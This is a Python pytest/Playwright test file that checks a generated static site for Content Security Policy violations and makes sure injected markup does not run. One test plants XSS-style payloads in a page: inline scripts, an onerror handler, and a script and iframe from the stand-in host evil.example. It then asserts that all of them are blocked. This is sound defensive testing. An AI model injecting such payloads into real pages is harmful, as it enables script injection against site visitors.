"""The policy in a browser: no page offends it, and what is slipped into a page does not run."""

from __future__ import annotations

import importlib.util
from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf
import pytest
from playwright.sync_api import Browser

from .conftest import Site, Visit, served

pytestmark = pytest.mark.slow

_SPEC = importlib.util.spec_from_file_location(
    "rich", Path(__file__).parents[1] / "html" / "test_security.py"
)
assert _SPEC is not None
assert _SPEC.loader is not None
_RICH = importlib.util.module_from_spec(_SPEC)
_SPEC.loader.exec_module(_RICH)

OFFENCES = """addEventListener("securitypolicyviolation",
  e => (window.offences ??= []).push([e.violatedDirective, e.blockedURI, e.sample]))"""


@pytest.fixture(scope="module")
def rich(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A small vault with all that a page may hold."""
    base = tmp_path_factory.mktemp("rich")
    vault = base / "vault"
    vault.mkdir()
    (vault / "Riche.md").write_text(
        _RICH.RICH + "\n![[a.pdf]]\n\n![[v.mp4]]\n\n![[s.svg]]\n", encoding="utf-8"
    )
    (vault / "p.png").write_bytes(_RICH.PIXEL)
    (vault / "s.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>')
    with pikepdf.new() as document:  # the viewer of a broken one takes the focus
        document.add_blank_page()
        document.save(vault / "a.pdf")
    (vault / "v.mp4").write_bytes(b"\0")
    name = "Quelles sont les compétences numériques à acquérir et à développer en interne.md"
    (vault / name).write_text(_RICH.SKILLS, encoding="utf-8")
    with served(base, vault) as site:
        yield site


def offences(visit: Callable[..., Visit], site: Site, address: str) -> dict[str, object]:
    window = visit()
    window.page.add_init_script(OFFENCES)
    found: dict[str, object] = {}
    for path in site.pages():
        window.page.goto(address + path)
        if offence := window.page.evaluate("window.offences ?? []"):
            found[path] = offence
    policy = [text for text in window.complaints if "Content Security Policy" in text]
    return found | ({"console": policy} if policy else {})


def test_no_page_of_the_handbook_offends(visit: Callable[..., Visit], site: Site) -> None:
    assert offences(visit, site, site.address) == {}


def test_no_construct_offends(visit: Callable[..., Visit], rich: Site) -> None:
    assert offences(visit, rich, rich.address) == {}


def test_none_offends_from_files(visit: Callable[..., Visit], rich: Site) -> None:
    assert offences(visit, rich, rich.folder.as_uri() + "/") == {}
    page = visit().page
    page.goto((rich.folder / "riche.html").as_uri())
    assert page.evaluate("getComputedStyle(document.querySelector('.skip')).position") == "absolute"
    page.locator("#v-search").press_sequentially("curation")
    page.wait_for_selector("[role=listbox] [role=option]")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=curation")


def test_an_injected_script_does_not_run(browser: Browser, rich: Site) -> None:
    """Whatever slips past the allow-lists: the page's own policy holds it."""
    html = (rich.folder / "riche.html").read_text(encoding="utf-8")
    attack = """<script>window.ran = 1</script><img src="x" onerror="window.ran = 2">
<script src="https://evil.example/x.js"></script><style>body { color: rgb(1, 2, 3) }</style>
<iframe src="https://evil.example/"></iframe>"""
    (rich.folder / "attacked.html").write_text(html.replace("</main>", attack + "</main>"))
    try:
        page = browser.new_page()
        called: list[str] = []
        page.route("**://evil.example/**", lambda route: called.append(route.request.url))
        page.goto(rich.address + "attacked.html")
        page.wait_for_load_state()
        assert page.evaluate("window.ran") is None
        assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
        assert called == []
        page.close()
    finally:
        (rich.folder / "attacked.html").unlink()
